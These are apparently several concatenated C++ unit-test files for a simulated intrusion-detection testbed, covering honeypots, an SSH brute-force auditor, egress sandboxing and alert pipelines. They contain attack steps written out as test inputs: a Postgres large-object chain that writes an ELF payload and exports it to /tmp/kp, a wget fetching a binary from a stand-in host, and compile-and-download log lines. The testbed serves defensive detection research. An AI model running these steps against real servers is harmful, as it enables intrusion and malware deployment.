// two-thread stress run.

#include <gtest/gtest.h>

#include <cstdint>
#include <memory>
#include <numeric>
#include <thread>
#include <vector>

#include "util/spsc_ring.hpp"

namespace at::util {
namespace {

TEST(SpscRingTest, CapacityRoundsUpToPowerOfTwo) {
  EXPECT_EQ(SpscRing<int>(0).capacity(), 2u);
  EXPECT_EQ(SpscRing<int>(1).capacity(), 2u);
  EXPECT_EQ(SpscRing<int>(2).capacity(), 2u);
  EXPECT_EQ(SpscRing<int>(3).capacity(), 4u);
  EXPECT_EQ(SpscRing<int>(8).capacity(), 8u);
  EXPECT_EQ(SpscRing<int>(1000).capacity(), 1024u);
}

TEST(SpscRingTest, FullRefusesAndEmptyHasNoFront) {
  SpscRing<int> ring(4);
  EXPECT_EQ(ring.front(), nullptr);
  EXPECT_EQ(ring.size_approx(), 0u);
  for (int i = 0; i < 4; ++i) {
    EXPECT_EQ(ring.free_slots(), 4u - static_cast<std::size_t>(i));
    EXPECT_TRUE(ring.try_push(int(i)));
  }
  EXPECT_EQ(ring.free_slots(), 0u);
  EXPECT_FALSE(ring.try_push(99));
  EXPECT_EQ(ring.size_approx(), 4u);
  ASSERT_NE(ring.front(), nullptr);
  EXPECT_EQ(*ring.front(), 0);
}

TEST(SpscRingTest, RefusedPushLeavesMoveOnlyValueIntact) {
  SpscRing<std::unique_ptr<int>> ring(2);
  EXPECT_TRUE(ring.try_push(std::make_unique<int>(1)));
  EXPECT_TRUE(ring.try_push(std::make_unique<int>(2)));
  auto extra = std::make_unique<int>(3);
  EXPECT_FALSE(ring.try_push(std::move(extra)));
  // The ring was full: the value must still be ours to retry.
  ASSERT_NE(extra, nullptr);
  EXPECT_EQ(*extra, 3);
  ASSERT_NE(ring.front(), nullptr);
  EXPECT_EQ(**ring.front(), 1);
  ring.pop();
  EXPECT_TRUE(ring.try_push(std::move(extra)));
  EXPECT_EQ(extra, nullptr);
}

TEST(SpscRingTest, FifoOrderAcrossManyWraps) {
  SpscRing<int> ring(8);
  int next_in = 0;
  int next_out = 0;
  // Interleave pushes and pops so head/tail wrap the 8-slot ring hundreds
  // of times with varying occupancy.
  for (int round = 0; round < 500; ++round) {
    const int burst = 1 + round % 8;
    for (int i = 0; i < burst; ++i) {
      if (!ring.try_push(int(next_in))) break;
      ++next_in;
    }
    const int drain = 1 + (round * 3) % 8;
    for (int i = 0; i < drain; ++i) {
      int* front = ring.front();
      if (front == nullptr) break;
      EXPECT_EQ(*front, next_out);
      ring.pop();
      ++next_out;
    }
  }
  while (int* front = ring.front()) {
    EXPECT_EQ(*front, next_out);
    ring.pop();
    ++next_out;
  }
  EXPECT_EQ(next_out, next_in);
  EXPECT_GT(next_in, 1000);
}

TEST(SpscRingTest, TwoThreadStressDeliversEverythingInOrder) {
  constexpr std::uint64_t kItems = 200'000;
  SpscRing<std::uint64_t> ring(64);
  std::uint64_t sum = 0;
  std::uint64_t expected_next = 0;
  bool ordered = true;
  std::thread consumer([&] {
    std::uint64_t seen = 0;
    while (seen < kItems) {
      std::uint64_t* front = ring.front();
      if (front == nullptr) {
        std::this_thread::yield();
        continue;
      }
      ordered = ordered && *front == expected_next;
      ++expected_next;
      sum += *front;
      ring.pop();
      ++seen;
    }
  });
  for (std::uint64_t i = 0; i < kItems; ++i) {
    while (!ring.try_push(std::uint64_t(i))) std::this_thread::yield();
  }
  consumer.join();
  EXPECT_TRUE(ordered);
  EXPECT_EQ(expected_next, kItems);
  EXPECT_EQ(sum, kItems * (kItems - 1) / 2);
}

}  // namespace
}  // namespace at::util
