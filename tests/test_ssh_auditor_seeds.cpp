// Continuous SSH auditing (CAUDIT-style reflexive blocking) and
// multi-seed robustness of the corpus calibration.

#include <gtest/gtest.h>

#include "analysis/insights.hpp"
#include "replay/background.hpp"
#include "testbed/ssh_auditor.hpp"
#include "testbed/testbed.hpp"

namespace at {
namespace {

net::Flow ssh_fail(net::Ipv4 src, util::SimTime ts) {
  net::Flow flow;
  flow.ts = ts;
  flow.src = src;
  flow.dst = net::Ipv4(141, 142, 250, 1);
  flow.dst_port = net::ports::kSsh;
  flow.state = net::ConnState::kRejected;
  return flow;
}

TEST(SshAuditorTest, BlocksAtThreshold) {
  bhr::BlackHoleRouter router;
  testbed::SshAuditorConfig config;
  config.failure_threshold = 10;
  testbed::SshAuditor auditor(config, router);
  const net::Ipv4 attacker(9, 9, 9, 9);
  bool tripped = false;
  for (std::size_t i = 0; i < 10; ++i) {
    tripped = auditor.on_flow(ssh_fail(attacker, static_cast<util::SimTime>(i)));
  }
  EXPECT_TRUE(tripped);
  EXPECT_TRUE(router.is_blocked(attacker, 10));
  EXPECT_EQ(auditor.blocks_issued(), 1u);
  // The block carries the auditor's identity in the audit trail.
  EXPECT_EQ(router.query(attacker, 10)->requested_by, "ssh-auditor");
}

TEST(SshAuditorTest, WindowResetsSlowAttempts) {
  bhr::BlackHoleRouter router;
  testbed::SshAuditorConfig config;
  config.failure_threshold = 5;
  config.window = 100;
  testbed::SshAuditor auditor(config, router);
  const net::Ipv4 attacker(9, 9, 9, 9);
  // 4 failures, long pause, 4 more: never 5 within a window.
  for (int i = 0; i < 4; ++i) auditor.on_flow(ssh_fail(attacker, i));
  for (int i = 0; i < 4; ++i) auditor.on_flow(ssh_fail(attacker, 1000 + i));
  EXPECT_FALSE(router.is_blocked(attacker, 2000));
}

TEST(SshAuditorTest, IgnoresSuccessesAndOtherPorts) {
  bhr::BlackHoleRouter router;
  testbed::SshAuditor auditor({.failure_threshold = 1}, router);
  net::Flow ok = ssh_fail(net::Ipv4(1, 1, 1, 1), 0);
  ok.state = net::ConnState::kEstablished;
  EXPECT_FALSE(auditor.on_flow(ok));
  net::Flow web = ssh_fail(net::Ipv4(1, 1, 1, 1), 0);
  web.dst_port = 443;
  EXPECT_FALSE(auditor.on_flow(web));
  EXPECT_EQ(auditor.failures_seen(), 0u);
}

TEST(SshAuditorTest, LiveBruteforceGetsAutoBlackholed) {
  // End-to-end on the testbed: a bruteforce campaign trips the auditor,
  // after which the attacker's remaining flows drop at the BHR.
  incidents::CorpusConfig config;
  config.repetition_scale = 0.02;
  const auto corpus = incidents::CorpusGenerator(config).generate();
  testbed::TestbedConfig bed_config;
  bed_config.ssh_auditor.failure_threshold = 20;
  testbed::Testbed bed(bed_config, corpus);
  bed.deploy(0);

  replay::BruteforceScenario::Config brute_config;
  brute_config.attempts = 100;
  replay::BruteforceScenario brute(brute_config);
  std::vector<replay::Scenario*> scenarios{&brute};
  replay::run_scenarios(bed, scenarios, 0);

  EXPECT_GE(bed.ssh_auditor().blocks_issued(), 1u);
  EXPECT_GT(bed.router().dropped_flows(), 0u);
  // The first 20 attempts got through; the rest were blackholed.
  EXPECT_LT(bed.zeek().flows_seen(), 100u);
}

// --- multi-seed calibration robustness ---

class SeedRobustness : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(SeedRobustness, CalibrationHoldsAcrossSeeds) {
  incidents::CorpusConfig config;
  config.seed = GetParam();
  config.repetition_scale = 0.02;
  const auto corpus = incidents::CorpusGenerator(config).generate();
  // Structural invariants are seed-independent.
  EXPECT_EQ(corpus.stats.incidents, 228u);
  EXPECT_EQ(corpus.stats.motif_incidents, 137u);
  EXPECT_EQ(corpus.stats.critical_occurrences, 98u);
  EXPECT_NEAR(static_cast<double>(corpus.stats.raw_alerts), 25.0e6, 0.15e6);
  // The Fig 3a headline must hold for any seed, not just the default.
  const auto insight = analysis::measure_insight1(corpus, 2);
  EXPECT_GE(insight.fraction_pairs_at_or_below_third, 0.95) << "seed " << GetParam();
  // And mining still recovers the catalog.
  const auto mined = analysis::mine_core_sequences(corpus.incidents);
  EXPECT_EQ(mined.sequences.size(), 43u);
  EXPECT_EQ(mined.sequences[0].count, 14u);
}

INSTANTIATE_TEST_SUITE_P(Seeds, SeedRobustness,
                         ::testing::Values(1ull, 7ull, 42ull, 1337ull, 99991ull));

}  // namespace
}  // namespace at
