// Testbed components: credentials, honeypot services, VM lifecycle,
// sandbox isolation, and the alert pipeline with BHR response.

#include <gtest/gtest.h>

#include "testbed/testbed.hpp"

namespace at::testbed {
namespace {

const incidents::Corpus& training() {
  static const incidents::Corpus corpus = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return corpus;
}

TEST(CredentialStoreTest, DefaultsAuthenticate) {
  CredentialStore store;
  store.add_defaults();
  const auto ok = store.authenticate("postgres", "postgres");
  ASSERT_TRUE(ok.has_value());
  EXPECT_TRUE(ok->is_default);
  EXPECT_FALSE(store.authenticate("postgres", "wrong").has_value());
  EXPECT_EQ(store.total_uses(), 1u);
}

TEST(CredentialStoreTest, LeakedCredentialsAttributeChannel) {
  CredentialStore store;
  const auto& leaked = store.leak(LeakChannel::kGitCommit, 100);
  const auto auth = store.authenticate(leaked.username, leaked.password);
  ASSERT_TRUE(auth.has_value());
  // The unique key ties the login back to where it was advertised.
  EXPECT_EQ(auth->channel, LeakChannel::kGitCommit);
  EXPECT_EQ(auth->leaked_at, 100);
}

TEST(CredentialStoreTest, LeaksAreUnique) {
  CredentialStore store;
  const auto a = store.leak(LeakChannel::kPasteSite, 0);
  const auto b = store.leak(LeakChannel::kPasteSite, 0);
  EXPECT_NE(a.password, b.password);
}

TEST(PostgresHoneypotTest, RansomwarePrimitives) {
  CredentialStore store;
  store.add_defaults();
  std::vector<monitors::ProcessEvent> processes;
  std::vector<monitors::SyscallEvent> syscalls;
  ServiceHooks hooks;
  hooks.on_process = [&](const monitors::ProcessEvent& e) { processes.push_back(e); };
  hooks.on_syscall = [&](const monitors::SyscallEvent& e) { syscalls.push_back(e); };
  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);

  auto session = pg.connect(net::Ipv4(111, 200, 1, 1), "postgres", "postgres", 10);
  ASSERT_TRUE(session.has_value());

  // Step 1: version recon.
  const auto version = pg.query(*session, "SHOW server_version_num", 20);
  EXPECT_TRUE(version.ok);
  EXPECT_EQ(version.response, "90121");
  // Step 2: hex-ELF payload.
  EXPECT_TRUE(pg.query(*session, "SELECT lowrite(0, decode('7F454C46','hex'))", 30).ok);
  // Step 3: export to disk.
  EXPECT_TRUE(pg.query(*session, "SELECT lo_export(16385, '/tmp/kp')", 40).ok);
  ASSERT_EQ(pg.files_on_disk().size(), 1u);
  EXPECT_EQ(pg.files_on_disk()[0], "/tmp/kp");
  // The drop surfaced as an execve-style audit event.
  ASSERT_FALSE(syscalls.empty());
  EXPECT_EQ(syscalls[0].path, "/tmp/kp");
  // Every step produced an observable process event.
  EXPECT_GE(processes.size(), 3u);
}

TEST(PostgresHoneypotTest, FailedAuthIsObservedAndCounted) {
  CredentialStore store;
  store.add_defaults();
  std::vector<net::Flow> flows;
  ServiceHooks hooks;
  hooks.on_flow = [&](const net::Flow& f) { flows.push_back(f); };
  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);
  EXPECT_FALSE(pg.connect(net::Ipv4(9, 9, 9, 9), "admin", "nope", 5).has_value());
  EXPECT_EQ(pg.failed_logins(), 1u);
  ASSERT_EQ(flows.size(), 1u);
  EXPECT_EQ(flows[0].state, net::ConnState::kRejected);
  EXPECT_EQ(flows[0].dst_port, net::ports::kPostgres);
}

TEST(PostgresHoneypotTest, QueriesRequireAuth) {
  CredentialStore store;
  ServiceHooks hooks;
  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);
  PostgresHoneypot::Session fake;
  EXPECT_FALSE(pg.query(fake, "SELECT 1", 0).ok);
}

TEST(SshHoneypotTest, KeyAuthAndExec) {
  std::vector<net::Flow> flows;
  std::vector<monitors::ProcessEvent> processes;
  ServiceHooks hooks;
  hooks.on_flow = [&](const net::Flow& f) { flows.push_back(f); };
  hooks.on_process = [&](const monitors::ProcessEvent& e) { processes.push_back(e); };
  SshHoneypot ssh("pg-1", net::Ipv4(141, 142, 250, 2), hooks);
  EXPECT_FALSE(ssh.login_with_key(net::Ipv4(1, 1, 1, 1), "unknown-key", 5));
  EXPECT_EQ(ssh.rejected_logins(), 1u);
  ssh.authorize_key("stolen-key");
  EXPECT_TRUE(ssh.login_with_key(net::Ipv4(1, 1, 1, 1), "stolen-key", 6));
  ssh.exec("postgres", "wget http://1.2.3.4/sys.x86_64", 7);
  ASSERT_EQ(processes.size(), 1u);
  EXPECT_EQ(processes[0].host, "pg-1");
  EXPECT_EQ(flows.size(), 2u);
}

TEST(VmManagerTest, SixteenEntryPointsOnTheSlash24) {
  VmManager manager;
  manager.provision_entry_points(1000);
  EXPECT_EQ(manager.instances().size(), 16u);
  EXPECT_EQ(manager.running_count(), 16u);
  for (const auto& instance : manager.instances()) {
    EXPECT_TRUE(net::blocks::honeypot24().contains(instance.address));
    EXPECT_EQ(instance.state, InstanceState::kRunning);
    EXPECT_EQ(instance.image, "pg-honeypot-immutable-v3");
  }
  // Addresses are distinct.
  std::set<std::uint32_t> addresses;
  for (const auto& instance : manager.instances()) {
    EXPECT_TRUE(addresses.insert(instance.address.value()).second);
  }
}

TEST(VmManagerTest, ShortLivedInstancesRecycle) {
  LifecycleConfig config;
  config.instance_ttl = 100;
  VmManager manager(config);
  manager.provision_entry_points(0);
  EXPECT_EQ(manager.tick(50), 0u);
  EXPECT_EQ(manager.tick(100), 16u);  // all expired -> recycled
  EXPECT_EQ(manager.total_recycled(), 16u);
  for (const auto& instance : manager.instances()) {
    EXPECT_EQ(instance.generation, 1u);
    EXPECT_EQ(instance.state, InstanceState::kRunning);
    EXPECT_EQ(instance.launched_at, 100);
  }
}

TEST(VmManagerTest, CaptureTriggersRecycle) {
  VmManager manager;
  manager.provision_entry_points(0);
  const auto id = manager.instances()[0].id;
  EXPECT_TRUE(manager.mark_capturing(id));
  EXPECT_FALSE(manager.mark_capturing(id));  // already capturing
  EXPECT_EQ(manager.tick(1), 1u);
  // Hostname and address survive the recycle (immutable image relaunch).
  EXPECT_EQ(manager.instances()[0].hostname, "pg-0");
  EXPECT_EQ(manager.instances()[0].generation, 1u);
}

TEST(VmManagerTest, AutoScaleUpToCeiling) {
  LifecycleConfig config;
  config.entry_points = 2;
  config.max_instances = 3;
  VmManager manager(config);
  manager.provision_entry_points(0);
  EXPECT_TRUE(manager.scale_up(1).has_value());
  EXPECT_FALSE(manager.scale_up(2).has_value());  // ceiling
  EXPECT_EQ(manager.instances().size(), 3u);
}

TEST(VmManagerTest, RejectsBadConfig) {
  LifecycleConfig config;
  config.entry_points = 0;
  EXPECT_THROW(VmManager{config}, std::invalid_argument);
  config.entry_points = 500;  // larger than the /24
  config.max_instances = 1000;
  EXPECT_THROW(VmManager{config}, std::invalid_argument);
}

TEST(SandboxTest, DropsEgressKeepsInternal) {
  NetworkSandbox sandbox;
  net::Flow flow;
  flow.src = net::blocks::honeypot24().host(1);
  // Lateral movement between honeypot instances is allowed (that is the
  // behaviour we want to capture).
  flow.dst = net::blocks::honeypot24().host(2);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedInternal);
  flow.dst = net::blocks::overlay().host(7);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedInternal);
  // A new connection to the Internet is dropped and logged.
  flow.dst = net::Ipv4(194, 145, 1, 1);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kDroppedEgress);
  EXPECT_EQ(sandbox.dropped(), 1u);
  ASSERT_EQ(sandbox.escape_attempts().size(), 1u);
  EXPECT_EQ(sandbox.escape_attempts()[0].dst, net::Ipv4(194, 145, 1, 1));
}

TEST(SandboxTest, WhitelistedMonitoringPlane) {
  SandboxConfig config;
  config.whitelist.push_back(net::Ipv4(141, 143, 0, 9));
  NetworkSandbox sandbox(config);
  net::Flow flow;
  flow.src = net::blocks::honeypot24().host(1);
  flow.dst = net::Ipv4(141, 143, 0, 9);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedWhitelisted);
}

TEST(PipelineTest, FiltersRepeatsAndTracksEntities) {
  bhr::BlackHoleRouter router;
  AlertPipeline pipeline(PipelineConfig{}, &router);
  alerts::Alert probe;
  probe.type = alerts::AlertType::kPortScan;
  probe.host = "node-1";
  probe.src = net::Ipv4(9, 9, 9, 9);
  for (int i = 0; i < 10; ++i) {
    probe.ts = i;
    pipeline.on_alert(probe);
  }
  EXPECT_EQ(pipeline.alerts_in(), 10u);
  EXPECT_EQ(pipeline.alerts_after_filter(), 1u);  // periodic repeats dropped
  EXPECT_EQ(pipeline.tracked_entities(), 1u);
}

TEST(PipelineTest, DetectionNotifiesAndBlocks) {
  bhr::BlackHoleRouter router;
  PipelineConfig config;
  config.block_ttl = 1000;
  AlertPipeline pipeline(config, &router);
  pipeline.add_detector("critical", [] {
    return std::make_unique<detect::CriticalAlertDetector>();
  });

  alerts::Alert alert;
  alert.ts = 42;
  alert.type = alerts::AlertType::kPrivilegeEscalation;
  alert.host = "node-1";
  alert.src = net::Ipv4(9, 9, 9, 9);
  pipeline.on_alert(alert);

  ASSERT_EQ(pipeline.notifications().size(), 1u);
  EXPECT_EQ(pipeline.notifications()[0].detector, "critical");
  EXPECT_EQ(pipeline.notifications()[0].entity, "host:node-1");
  // The pipeline called the BHR API.
  EXPECT_TRUE(router.is_blocked(net::Ipv4(9, 9, 9, 9), 43));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(9, 9, 9, 9), 42 + 1001));  // TTL
}

TEST(PipelineTest, EntityStreamsAreIndependent) {
  // A signature split across two hosts must not fire — each entity's
  // matcher only sees its own substream. The rule-based detector makes
  // this deterministic (it needs the complete subsequence).
  AlertPipeline pipeline(PipelineConfig{}, nullptr);
  pipeline.add_detector("rules", [] {
    return std::make_unique<detect::RuleBasedDetector>(
        std::vector<detect::RuleBasedDetector::Signature>{
            {"motif",
             {alerts::AlertType::kDownloadSensitive, alerts::AlertType::kCompileSource,
              alerts::AlertType::kLogTampering}}});
  });
  alerts::Alert alert;
  alert.ts = 1;
  alert.type = alerts::AlertType::kDownloadSensitive;
  alert.host = "a";
  pipeline.on_alert(alert);
  alert.ts = 2;
  alert.type = alerts::AlertType::kCompileSource;
  alert.host = "b";
  pipeline.on_alert(alert);
  alert.ts = 3;
  alert.type = alerts::AlertType::kLogTampering;
  alert.host = "a";
  pipeline.on_alert(alert);
  alert.ts = 4;
  alert.host = "b";
  pipeline.on_alert(alert);
  EXPECT_EQ(pipeline.tracked_entities(), 2u);
  EXPECT_TRUE(pipeline.notifications().empty());
  // On one host the full motif *does* fire.
  alerts::Alert full;
  full.host = "c";
  for (const auto type : {alerts::AlertType::kDownloadSensitive,
                          alerts::AlertType::kCompileSource,
                          alerts::AlertType::kLogTampering}) {
    full.ts += 10;
    full.type = type;
    pipeline.on_alert(full);
  }
  ASSERT_EQ(pipeline.notifications().size(), 1u);
  EXPECT_EQ(pipeline.notifications()[0].entity, "host:c");
}

TEST(TestbedTest, DeployWiresEverything) {
  TestbedConfig config;
  Testbed bed(config, training());
  bed.deploy(0);
  EXPECT_EQ(bed.postgres().size(), 16u);
  EXPECT_EQ(bed.ssh().size(), 16u);
  EXPECT_EQ(bed.vms().running_count(), 16u);
  EXPECT_GE(bed.credentials().credentials().size(), 6u);  // defaults + leaks
  // Known-hosts federation: every instance knows the other fifteen.
  for (const auto& pg : bed.postgres()) {
    EXPECT_EQ(pg->known_hosts().size(), 15u);
  }
}

TEST(TestbedTest, MaintenanceChainReapsBlocksAndPrunesMonitorState) {
  TestbedConfig config;
  Testbed bed(config, training());
  bed.deploy(0);
  auto& engine = bed.engine();

  // One TTL'd block plus inbound probes that create Zeek window state.
  const net::Ipv4 scanner(198, 51, 100, 7);
  ASSERT_TRUE(bed.router().block(scanner, 0, 120, "scan", "test"));
  const net::Ipv4 prober(198, 51, 100, 8);
  for (int i = 0; i < 5; ++i) {
    net::Flow flow;
    flow.ts = i;
    flow.src = prober;
    flow.dst = bed.postgres().front()->address();
    flow.src_port = 40000;
    flow.dst_port = static_cast<std::uint16_t>(8000 + i);
    flow.state = net::ConnState::kAttempt;
    bed.inject_flow(flow);
  }
  EXPECT_GE(bed.zeek().tracked_sources(), 1u);

  bed.schedule_maintenance(60, 600);
  engine.run();  // bounded chain: run() must drain and terminate

  const auto& stats = bed.maintenance_stats();
  EXPECT_EQ(stats.ticks, 10u);  // t = 60, 120, ..., 600
  EXPECT_EQ(stats.blocks_expired, 1u);  // the TTL'd block, reaped at t=120
  EXPECT_GE(stats.monitor_state_pruned, 1u);
  EXPECT_EQ(bed.zeek().tracked_sources(), 0u);
  EXPECT_FALSE(bed.router().is_blocked(scanner, engine.now()));
  EXPECT_EQ(engine.pending(), 0u);
  EXPECT_EQ(engine.now(), 600);
}

TEST(TestbedTest, InjectFlowPathways) {
  TestbedConfig config;
  Testbed bed(config, training());
  bed.deploy(0);
  // Blocked source is dropped at the BHR.
  bed.router().block(net::Ipv4(6, 6, 6, 6), 0, 0, "test", "t");
  net::Flow flow;
  flow.ts = 10;
  flow.src = net::Ipv4(6, 6, 6, 6);
  flow.dst = bed.postgres()[0]->address();
  flow.dst_port = net::ports::kPostgres;
  EXPECT_FALSE(bed.inject_flow(flow));
  // Unblocked attempts are recorded as scans and reach Zeek.
  flow.src = net::Ipv4(7, 7, 7, 7);
  EXPECT_TRUE(bed.inject_flow(flow));
  EXPECT_EQ(bed.scan_recorder().total_probes(), 1u);
  EXPECT_EQ(bed.zeek().flows_seen(), 1u);
  // Honeypot-originated egress is dropped but still observed by Zeek.
  net::Flow egress;
  egress.ts = 20;
  egress.src = bed.postgres()[0]->address();
  egress.dst = net::Ipv4(194, 145, 1, 1);
  egress.state = net::ConnState::kEstablished;
  EXPECT_FALSE(bed.inject_flow(egress));
  EXPECT_EQ(bed.sandbox().dropped(), 1u);
  EXPECT_EQ(bed.zeek().flows_seen(), 2u);
}

}  // namespace
}  // namespace at::testbed
