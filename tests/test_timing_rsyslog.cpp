// The time-aware model (Insight 3 as evidence) and the rsyslog monitor —
// the fourth log source.

#include <gtest/gtest.h>

#include "detect/eval.hpp"
#include "util/logdomain.hpp"
#include "monitors/rsyslog_monitor.hpp"

namespace at {
namespace {

using alerts::AlertType;
using fg::GapBucket;

const incidents::Corpus& corpus() {
  static const incidents::Corpus c = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return c;
}

TEST(GapBuckets, Boundaries) {
  EXPECT_EQ(fg::bucket_for_gap(0), GapBucket::kBurst);
  EXPECT_EQ(fg::bucket_for_gap(29), GapBucket::kBurst);
  EXPECT_EQ(fg::bucket_for_gap(30), GapBucket::kMinutes);
  EXPECT_EQ(fg::bucket_for_gap(util::kHour - 1), GapBucket::kMinutes);
  EXPECT_EQ(fg::bucket_for_gap(util::kHour), GapBucket::kHours);
  EXPECT_EQ(fg::bucket_for_gap(util::kDay - 1), GapBucket::kHours);
  EXPECT_EQ(fg::bucket_for_gap(util::kDay), GapBucket::kDays);
}

TEST(TimedModel, GapDistributionsLearned) {
  const auto params = fg::learn_params(corpus());
  ASSERT_EQ(params.log_gap.size(), alerts::kNumStages * fg::kNumGapBuckets);
  // Each row normalizes.
  for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
    double total = 0.0;
    for (std::size_t b = 0; b < fg::kNumGapBuckets; ++b) {
      total += util::safe_exp(params.gap(static_cast<alerts::AttackStage>(s),
                                         static_cast<GapBucket>(b)));
    }
    EXPECT_NEAR(total, 1.0, 1e-9);
  }
  // Insight 3 in the learned numbers: suspicious (probing) activity is
  // burst-dominated; in-progress (manual) stages favor longer pauses.
  EXPECT_GT(params.gap(alerts::AttackStage::kSuspicious, GapBucket::kBurst),
            params.gap(alerts::AttackStage::kSuspicious, GapBucket::kDays));
}

TEST(TimedModel, FilterAcceptsOptionalGap) {
  const auto params = fg::learn_params(corpus());
  fg::ForwardFilter timed(params);
  fg::ForwardFilter plain(params);
  timed.observe(AlertType::kPortScan);
  plain.observe(AlertType::kPortScan);
  // Without a gap hint the two agree exactly.
  timed.observe(AlertType::kSshBruteforce, std::nullopt);
  plain.observe(AlertType::kSshBruteforce);
  for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
    EXPECT_EQ(timed.posterior()[s], plain.posterior()[s]);
  }
  // With a gap hint the posteriors diverge (the evidence is used).
  timed.observe(AlertType::kDownloadSensitive, GapBucket::kHours);
  plain.observe(AlertType::kDownloadSensitive);
  bool differs = false;
  for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
    differs |= timed.posterior()[s] != plain.posterior()[s];
  }
  EXPECT_TRUE(differs);
}

TEST(TimedModel, TimedDetectorStillDetectsAndStaysQuiet) {
  const auto split = detect::split_corpus(corpus());
  auto timed = detect::FactorGraphDetector::train(split.train, 0.75, /*use_timing=*/true);
  EXPECT_EQ(timed.name(), "factor-graph-timed");
  std::vector<detect::Stream> attacks;
  for (const auto& incident : split.test) attacks.push_back(detect::attack_stream(incident));
  incidents::DailyNoiseModel noise;
  const auto benign = detect::benign_streams(noise, 0, 10, 300);
  const auto result = detect::evaluate(timed, attacks, benign);
  EXPECT_GT(result.recall(), 0.9);
  EXPECT_GT(result.precision(), 0.9);
  EXPECT_GT(result.preemption_rate(), 0.9);
}

TEST(RsyslogMonitorTest, SymbolizesRawLines) {
  alerts::BufferSink sink;
  monitors::RsyslogMonitor monitor(sink);
  const util::SimTime day = util::to_sim_time(util::CivilDate{2024, 10, 30});
  EXPECT_TRUE(monitor.on_line(
      R"(23:15:22 [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK") [7036])", day));
  EXPECT_FALSE(monitor.on_line("ordinary chatter", day));
  EXPECT_EQ(monitor.lines_seen(), 2u);
  EXPECT_EQ(monitor.unmapped(), 1u);
  ASSERT_EQ(sink.alerts().size(), 1u);
  const auto& alert = sink.alerts()[0];
  EXPECT_EQ(alert.type, AlertType::kDownloadSensitive);
  EXPECT_EQ(alert.origin, alerts::Origin::kRsyslog);
  EXPECT_EQ(alert.host, "internal-host");
  EXPECT_EQ(alert.ts, day + 23 * util::kHour + 15 * util::kMinute + 22);
  // The raw line rides along, sanitized.
  ASSERT_NE(alert.find_meta("raw"), nullptr);
}

TEST(RsyslogMonitorTest, TamperSilences) {
  alerts::BufferSink sink;
  monitors::RsyslogMonitor monitor(sink);
  monitor.tamper("internal-host");
  monitor.on_line("12:00:00 [internal-host] gcc -o mod abs.c", 0);
  EXPECT_TRUE(sink.alerts().empty());
  EXPECT_EQ(monitor.suppressed(), 1u);
}

}  // namespace
}  // namespace at
