// Time, string, log-domain, table, and thread-pool utilities.

#include <gtest/gtest.h>

#include <atomic>
#include <cmath>

#include "util/logdomain.hpp"
#include "util/strings.hpp"
#include "util/table.hpp"
#include "util/thread_pool.hpp"
#include "util/time_utils.hpp"

namespace at::util {
namespace {

TEST(TimeUtils, EpochRoundTrip) {
  EXPECT_EQ(days_from_civil({1970, 1, 1}), 0);
  EXPECT_EQ(civil_from_days(0), (CivilDate{1970, 1, 1}));
}

// Round-trip over the whole study period, sampled.
class CivilRoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(CivilRoundTrip, DayRoundTrips) {
  const std::int64_t day = GetParam();
  const CivilDate date = civil_from_days(day);
  EXPECT_EQ(days_from_civil(date), day);
  EXPECT_GE(date.month, 1u);
  EXPECT_LE(date.month, 12u);
  EXPECT_GE(date.day, 1u);
  EXPECT_LE(date.day, days_in_month(date.year, date.month));
}

INSTANTIATE_TEST_SUITE_P(StudyPeriod, CivilRoundTrip,
                         ::testing::Values(11688, 12000, 13000, 15000, 16071, 17000, 18000,
                                           19000, 19700, 20000, -1, -365, 0, 1));

TEST(TimeUtils, KnownDates) {
  // 2014-04-01 (the Heartbleed VRT example) and 2024-08-01 (Fig 1 sample).
  EXPECT_EQ(format_date(parse_yyyymmdd("20140401")), "2014-04-01");
  const SimTime fig1 = to_sim_time(CivilDateTime{{2024, 8, 1}, 0, 0, 0});
  EXPECT_EQ(format_datetime(fig1), "2024-08-01 00:00:00");
  EXPECT_EQ(format_yyyymmdd({2014, 4, 1}), "20140401");
}

TEST(TimeUtils, ParseRejectsGarbage) {
  EXPECT_THROW((void)parse_yyyymmdd("2014"), std::invalid_argument);
  EXPECT_THROW((void)parse_yyyymmdd("2014ab01"), std::invalid_argument);
  EXPECT_THROW((void)parse_yyyymmdd("20141301"), std::invalid_argument);
  EXPECT_THROW((void)parse_yyyymmdd("20140230"), std::invalid_argument);
}

TEST(TimeUtils, LeapYears) {
  EXPECT_TRUE(is_leap_year(2024));
  EXPECT_TRUE(is_leap_year(2000));
  EXPECT_FALSE(is_leap_year(1900));
  EXPECT_FALSE(is_leap_year(2023));
  EXPECT_EQ(days_in_month(2024, 2), 29u);
  EXPECT_EQ(days_in_month(2023, 2), 28u);
}

TEST(TimeUtils, StartOfDayAndIndex) {
  const SimTime noon = to_sim_time(CivilDateTime{{2020, 5, 17}, 12, 30, 0});
  EXPECT_EQ(start_of_day(noon), to_sim_time(CivilDate{2020, 5, 17}));
  EXPECT_EQ(day_index(noon), days_from_civil({2020, 5, 17}));
}

TEST(Strings, SplitAndJoin) {
  EXPECT_EQ(split("a,b,,c", ','), (std::vector<std::string>{"a", "b", "", "c"}));
  EXPECT_EQ(split("", ','), (std::vector<std::string>{""}));
  EXPECT_EQ(join({"x", "y"}, "-"), "x-y");
  EXPECT_EQ(split_ws("  a \t b\nc "), (std::vector<std::string>{"a", "b", "c"}));
}

TEST(Strings, TrimAndCase) {
  EXPECT_EQ(trim("  hi \n"), "hi");
  EXPECT_EQ(trim(""), "");
  EXPECT_EQ(to_lower("WGet ABS.c"), "wget abs.c");
}

TEST(Strings, PredicatesAndReplace) {
  EXPECT_TRUE(starts_with("alert_download", "alert_"));
